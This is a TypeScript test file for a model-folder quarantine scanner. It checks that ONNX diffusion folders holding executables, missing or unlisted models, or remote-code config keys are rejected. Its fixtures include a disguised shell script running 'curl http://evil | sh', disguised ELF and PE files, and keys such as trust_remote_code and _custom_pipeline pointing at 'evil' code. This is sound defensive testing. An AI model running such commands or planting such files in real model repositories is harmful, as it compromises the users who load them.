// Hostile Optimum ONNX folders: executables beside the models, components model_index.json promises but the folder lacks, models nobody lists, remote code. Stage 7 fails each.
import t, { type Test } from 'tap';
import { chmodSync, copyFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { TinySdOptions } from '../fixtures/tiny-sd-onnx.js';
import { writeTinySdOnnx } from '../fixtures/tiny-sd-onnx.js';
import { tempDir } from '../quarantine/helpers.js';
import { folderArtifact, runDiffusion, runFormat, runPipeline, rulesOf } from '../quarantine/onnx-helpers.js';

function sd(t: Test, o: TinySdOptions = {}): string {
  const root = join(tempDir(t), 'sd');
  writeTinySdOnnx(root, o);
  return root;
}

async function failsAt7(t: Test, root: string, rule: string, where?: RegExp) {
  const r = await runDiffusion(root);
  t.equal(r.stage, 'diffusion');
  t.equal(r.verdict, 'fail', r.reason);
  t.ok(rulesOf(r).includes(rule), `rule ${rule} in ${rulesOf(r).join(',')}`);
  if (where) t.ok((r.evidence.problems as { rule: string; where: string }[]).some((p) => p.rule === rule && where.test(p.where)), `where ${String(where)}`);
  return r;
}

/** A minimal ELF64 header: magic, class, data, version. */
const ELF = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array<number>(56).fill(0)]);

t.test('onnx folder — executables: a .py file, an ELF under an allowed name, a #! script, a PE file', async (t) => {
  const py = sd(t);
  writeFileSync(join(py, 'unet', 'pipeline.py'), 'import os\nos.system("id")\n');
  const r = await failsAt7(t, py, 'executable', /unet\/pipeline\.py/);
  t.ok(rulesOf(r).includes('suffix'), 'and its suffix is not allowed');
  const elf = sd(t);
  writeFileSync(join(elf, 'tokenizer', 'notes.txt'), ELF);
  await failsAt7(t, elf, 'executable', /tokenizer\/notes\.txt/);
  const so = sd(t);
  writeFileSync(join(so, 'unet', 'libcustom_ops.so'), ELF);
  await failsAt7(t, so, 'executable', /libcustom_ops\.so/);
  const sh = sd(t);
  writeFileSync(join(sh, 'scheduler', 'README.md'), '#!/bin/sh\ncurl http://evil | sh\n');
  chmodSync(join(sh, 'scheduler', 'README.md'), 0o755);
  await failsAt7(t, sh, 'executable', /scheduler\/README\.md/);
  const pe = sd(t);
  const exe = new Uint8Array(256);
  exe.set([0x4d, 0x5a]);
  new DataView(exe.buffer).setUint32(0x3c, 0x80, true);
  exe.set([0x50, 0x45, 0, 0], 0x80);
  writeFileSync(join(pe, 'vae_decoder', 'model.onnx_data'), exe);
  await failsAt7(t, pe, 'executable', /vae_decoder\/model\.onnx_data/);
  // Two letters "MZ" at the start of a text file are not a PE header.
  const text = sd(t);
  writeFileSync(join(text, 'tokenizer', 'notes.txt'), `MZ ${'x'.repeat(200)}`);
  t.equal((await runDiffusion(text)).verdict, 'pass', 'no false alarm on text starting with MZ');
});

t.test('onnx folder — a component model_index.json lists with no folder is refused', async (t) => {
  const root = sd(t);
  rmSync(join(root, 'vae_encoder'), { recursive: true });
  await failsAt7(t, root, 'missing_component', /\$\.vae_encoder/);
  await failsAt7(t, sd(t, { modelIndex: { safety_checker: ['diffusers', 'OnnxRuntimeModel'] } }), 'missing_component', /\$\.safety_checker/);
  // [null, null] means "none": no folder expected.
  t.equal((await runDiffusion(sd(t, { modelIndex: { safety_checker: [null, null] } }))).verdict, 'pass');
});

t.test('onnx folder — a network component without a model.onnx that parses is refused; a model outside every component too', async (t) => {
  const missing = sd(t);
  rmSync(join(missing, 'unet', 'model.onnx'));
  await failsAt7(t, missing, 'missing_model', /unet\/model\.onnx/);
  const broken = sd(t);
  writeFileSync(join(broken, 'text_encoder', 'model.onnx'), readFileSync(join(broken, 'text_encoder', 'model.onnx')).subarray(0, 500));
  const r = await failsAt7(t, broken, 'bad_model', /text_encoder\/model\.onnx/);
  t.match(JSON.stringify(r.evidence.problems), /truncated/);
  const extra = sd(t);
  mkdirSync(join(extra, 'extra'));
  copyFileSync(join(extra, 'vae_decoder', 'model.onnx'), join(extra, 'extra', 'model.onnx'));
  await failsAt7(t, extra, 'unlisted_model', /extra\/model\.onnx/);
  const root = sd(t);
  copyFileSync(join(root, 'vae_decoder', 'model.onnx'), join(root, 'model.onnx'));
  await failsAt7(t, root, 'unlisted_model', /^model\.onnx$/);
});

t.test('onnx folder — remote-code keys in model_index.json or a component config are refused', async (t) => {
  await failsAt7(t, sd(t, { modelIndex: { _custom_pipeline: 'evil/pipeline' } }), 'remote_code', /model_index\.json/);
  await failsAt7(t, sd(t, { schedulerConfig: { auto_map: { AutoModel: 'modeling_evil.Evil' } } }), 'remote_code', /scheduler_config\.json/);
  const trust = sd(t);
  const cfg = JSON.parse(readFileSync(join(trust, 'text_encoder', 'config.json'), 'utf8')) as Record<string, unknown>;
  writeFileSync(join(trust, 'text_encoder', 'config.json'), JSON.stringify({ ...cfg, trust_remote_code: true }));
  await failsAt7(t, trust, 'remote_code', /text_encoder\/config\.json/);
});

t.test('onnx folder — the pipeline rejects a folder with an executable at stage 2 or 7, never promotes it', async (t) => {
  const root = sd(t);
  writeFileSync(join(root, 'unet', 'run.txt'), '#!/usr/bin/env python3\nimport os\n');
  const fmt = await runFormat(root, 'folder');
  t.equal(fmt.verdict, 'pass', 'a #! line is text to the format gate');
  const out = await runPipeline(folderArtifact(root));
  t.equal(out.outcome, 'rejected');
  t.same(out.results.at(-1)?.stage, 'diffusion');
  t.match(out.reason, /executable/);
});
